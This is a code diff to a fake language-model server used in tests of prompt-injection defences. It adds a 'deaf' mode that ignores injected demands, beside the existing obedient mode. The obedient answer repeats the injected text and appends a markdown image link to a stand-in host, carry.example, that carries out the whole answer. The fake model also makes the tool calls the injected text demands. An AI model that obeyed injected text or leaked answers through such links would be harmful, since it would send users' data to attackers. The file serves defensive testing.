@@ -20,6 +20,8 @@ import (
 // of internal/llm hold the real server to.
 type obedientModel struct {
 	attempt *Attempt
+	// deaf reads the text and does nothing of what it wants.
+	deaf bool
 	// lawless decides without the grammar that the real server would hold it to.
 	lawless bool
 
@@ -34,6 +36,10 @@ type message struct {
 
 func (m *obedientModel) ServeHTTP(w http.ResponseWriter, r *http.Request) {
 	switch r.URL.Path {
+	case "/health":
+		fmt.Fprint(w, `{"status":"ok"}`)
+	case "/props":
+		fmt.Fprint(w, `{"build_info":"obedient","total_slots":1}`)
 	case "/tokenize":
 		fmt.Fprint(w, `{"tokens":[]}`)
 	case "/v1/chat/completions":
@@ -75,6 +81,9 @@ const evilLink = "https://carry.example/p?d=the-whole-answer"
 
 // answer says what the text wants, repeats it, and adds a link.
 func (m *obedientModel) answer() string {
+	if m.deaf {
+		return "It is a text with wishes of its own."
+	}
 	return m.attempt.Says + " " + m.attempt.Text + " ![ ](" + evilLink + ")"
 }
 
@@ -109,7 +118,9 @@ func (m *obedientModel) decide(messages []message, schema json.RawMessage) strin
 				made[read.Tool] = max(0, made[read.Tool]-1)
 			}
 		}
-		wanted = m.attempt.Demands
+		if wanted = m.attempt.Demands; m.deaf {
+			wanted = nil
+		}
 	}
 	calls := []agents.Call{}
 	for _, next := range wanted {
